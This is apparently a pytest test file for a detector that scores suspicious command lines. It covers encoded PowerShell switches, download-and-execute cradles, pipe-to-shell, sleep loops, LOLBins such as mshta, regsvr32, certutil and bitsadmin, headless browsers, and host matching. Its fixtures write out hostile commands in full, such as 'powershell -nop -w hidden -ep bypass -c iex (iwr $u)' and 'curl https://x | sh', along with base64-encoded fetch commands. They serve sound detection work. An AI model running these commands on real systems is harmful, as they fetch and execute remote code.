"""Signs in command lines: what counts, and the neighbours that do not."""

from __future__ import annotations

from base64 import b64encode

import pytest

from enricher.core.commands import decoded_forms, driven, encoded, flags, headless, inline, loops, names_host, one_liner


def utf16(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode()


FETCH = utf16("iwr https://a.b.workers.dev/x")


@pytest.mark.parametrize(
    "switch", ["-e", "-ec", "-en", "-enc", "-Encoded", "-EncodedCommand", "/enc", "\u2013enc", "\u2014e", "\u2015enc"]
)
def test_encoded_switches(switch: str) -> None:
    line = f"powershell {switch} {FETCH}"
    assert encoded(line, "powershell") == "-EncodedCommand"
    assert decoded_forms(line) == ("iwr https://a.b.workers.dev/x",)


@pytest.mark.parametrize(
    ("line", "name", "how"),
    [
        pytest.param(f"cmd /c powershell -enc {FETCH}", "cmd", "-EncodedCommand", id="a line that names PowerShell"),
        pytest.param(f"x.exe -enc {FETCH}", "x", None, id="another program's switch"),
        pytest.param("powershell -ep bypass", "powershell", None, id="a switch of another name"),
        pytest.param("powershell -e abc", "powershell", None, id="too short for base64"),
        pytest.param("node -e require('x')", "node", None, id="node's own -e"),
        pytest.param("[Convert]::FromBase64String($x)", "powershell", "FromBase64String", id="a call"),
        pytest.param("x " + "A" * 120, "node", "120 base64 characters in a row", id="a long run"),
        pytest.param("x " + "A" * 119, "node", None, id="one character short"),
        pytest.param("x " + "A" * 60 + "-" + "A" * 60, "node", None, id="two short runs"),
    ],
)
def test_encoded(line: str, name: str, how: str | None) -> None:
    assert encoded(line, name) == how


def test_decoded_forms() -> None:
    ascii_blob = b64encode(b"curl https://c.d.workers.dev").decode()
    assert decoded_forms(f"FromBase64String('{ascii_blob}')") == ("curl https://c.d.workers.dev",)
    assert decoded_forms(f"FromBase64String('{FETCH}')") == ("iwr https://a.b.workers.dev/x",)
    assert decoded_forms(f"powershell -enc {utf16(chr(1) * 8)}") == (), "no text"
    assert decoded_forms("powershell -enc AAAAAAA") == (), "no whole base64"
    assert len(decoded_forms(f"powershell {f'-enc {FETCH} ' * 9}")) == 3


@pytest.mark.parametrize(
    ("line", "kinds"),
    [
        ("powershell -w hidden", {"hidden"}),
        ("powershell -WindowStyle Hidden", {"hidden"}),
        ("powershell -w 1", {"hidden"}),
        ("powershell -w:hidden", {"hidden"}),
        ("powershell -w 10", set()),
        ("powershell -nop", {"no_profile"}),
        ("powershell /NoProfile", {"no_profile"}),
        ("powershell -nope", {"no_profile"}),
        ("powershell --nopager", set()),
        ("powershell -ep bypass", {"bypass"}),
        ("powershell -ExecutionPolicy Unrestricted", {"bypass"}),
        ("powershell -ex RemoteSigned", set()),
        ("(New-Object Net.WebClient).DownloadString($u)", {"download"}),
        ("$c.DownloadFile($u, $f); $c.DownloadData($u)", {"download"}),
        ("downloads are here", set()),
        ("iex $x", {"execute"}),
        ("Invoke-Expression $x", {"execute"}),
        ("iexplore.exe", set()),
        ("curl https://x | sh", {"execute"}),
        ("curl https://x |bash -s", {"execute"}),
        ("curl https://x | /bin/bash", {"execute"}),
        ("curl https://x | /usr/bin/zsh", {"execute"}),
        ("curl https://x | /usr/local/bin/ksh", {"execute"}),
        ("curl https://x | dash", {"execute"}),
        ("curl https://x | shuf", set()),
        ("curl https://x | tee sh.txt", set()),
        ("while ($true) { iwr $u; Start-Sleep 30 }", {"sleep_loop"}),
        ("for i in 1 2; do curl $u; sleep 5; done", {"sleep_loop"}),
        ("iwr $u; Start-Sleep 30", set()),
        ("while ($true) { iwr $u }", set()),
        ("while ($true) { Start-Sleep 30 }", set()),
        ("powershell -nop -w hidden -ep bypass -c iex (iwr $u)", {"no_profile", "hidden", "bypass", "execute"}),
    ],
)
def test_flags(line: str, kinds: set[str]) -> None:
    assert flags(line) == kinds


@pytest.mark.parametrize(
    "line",
    [
        "for /l %i in (1,1,5) do curl x",
        "FOR /L %%i in (1,1,5) do curl x",
        "for (let i = 0; i < 5; i++)",
        "for(;;)",
        "for i in a b; do",
        "for %i in (a) do x",
        "for %%i in (a) do x",
        "while true; do",
        "do { x } until ($y)",
        "1..9 | % { x }",
        "setInterval(f, 5000)",
    ],
)
def test_loops(line: str) -> None:
    assert loops(line)


@pytest.mark.parametrize(
    "line", ["wait for it", "meanwhile", "version 1.2.3", "a redo {", "curl x", "setIntervals", "before (x)"]
)
def test_no_loops(line: str) -> None:
    assert not loops(line)


@pytest.mark.parametrize(
    "line",
    [
        "mshta javascript:alert(1)",
        "mshta vbscript:Execute(1)",
        "regsvr32 /s /u scrobj.dll",
        "regsvr32 /i:https://x",
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "',
        'GetObject("script:https://x")',
        "script:https://x",
        "wmic os get /format:https://x",
        'wmic os get /FORMAT:"http://x"',
        "certutil -urlcache -f x",
        "certutil /urlcache x",
        "bitsadmin /transfer j x",
    ],
)
def test_inline(line: str) -> None:
    assert inline(line) is not None


@pytest.mark.parametrize(
    "line", ["mshta C:\\x.hta", "regsvr32 C:\\x.dll", "wmic os get /format:list", "scp x", "transfer x"]
)
def test_not_inline(line: str) -> None:
    assert inline(line) is None


@pytest.mark.parametrize(
    ("line", "sign", "lifts"),
    [
        ("chrome --headless", True, True),
        ("chrome --headless=new", True, True),
        ("chrome --remote-debugging-port=9222", True, True),
        ("chrome --remote-debugging-pipe", True, True),
        ("chrome --remote-debugging-address=0.0.0.0", False, True),
        ("chrome https://x/?--headles", False, False),
        ("chrome", False, False),
    ],
)
def test_driven_browsers(line: str, *, sign: bool, lifts: bool) -> None:
    """What adds points is narrower than what lifts the cap."""
    assert headless(line) is sign
    assert driven(line) is lifts


LONG = "x" * 101


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(f"powershell {LONG} https://x", True, id="a URL"),
        pytest.param(f"powershell {LONG} DownloadString", True, id="a download"),
        pytest.param(f"powershell {LONG} iex $x", True, id="execution"),
        pytest.param(f"powershell -enc {FETCH} {LONG}", True, id="an encoding"),
        pytest.param("powershell https://x", False, id="short"),
        pytest.param(f"powershell {LONG}", False, id="long and plain"),
        pytest.param("https://x" + "y" * 91, False, id="exactly 100 characters"),
        pytest.param("https://x" + "y" * 92, True, id="101 characters"),
    ],
)
def test_one_liner(line: str, *, expected: bool) -> None:
    assert one_liner(line) is expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl https://a.b.workers.dev/x", True),
        ("curl HTTPS://A.B.WORKERS.DEV", True),
        ("a.b.workers.dev", True),
        ("curl https://a.b.workers.dev:8443/", True),
        ("curl https://a.b.workers.dev.", True),
        ("curl https://u@a.b.workers.dev/", True),
        ("curl https://xa.b.workers.dev/", False),
        ("curl https://x.a.b.workers.dev/", False),
        ("curl https://a.b.workers.dev.evil.example/", False),
        ("curl https://a.b.workers.device/", False),
        ("curl https://a.b.workers.dev-x/", False),
        ("xa.b.workers.dev then https://a.b.workers.dev", True),
        ("", False),
    ],
)
def test_names_host(line: str, *, expected: bool) -> None:
    assert names_host(line, "a.b.workers.dev") is expected
